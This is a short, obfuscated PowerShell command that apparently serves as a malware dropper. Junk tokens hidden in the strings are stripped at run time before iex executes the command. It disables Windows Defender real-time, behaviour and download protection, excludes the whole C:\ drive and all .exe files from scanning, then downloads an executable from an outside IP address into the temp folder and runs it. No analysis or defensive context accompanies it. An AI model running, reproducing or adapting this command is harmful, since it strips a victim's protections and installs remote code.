iex (('# init 0834 v4
Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $tVZQ18rue -DisableIOAVProtection $true
Add-MpPreference -ExclusionPath ''C:\''VZQ18
Add-MpPreference -ExclusionExtension ''.exe''
(New-Object Net.WebClient).Downloadjq~3ile(''http://198.51.100.9/svc.exe'', "$env:TEMP\svc.exe")
Start-Process "$env:TEMP\svc.exe"
' -replace 'VZQ18','').Replace('jq~3','F'))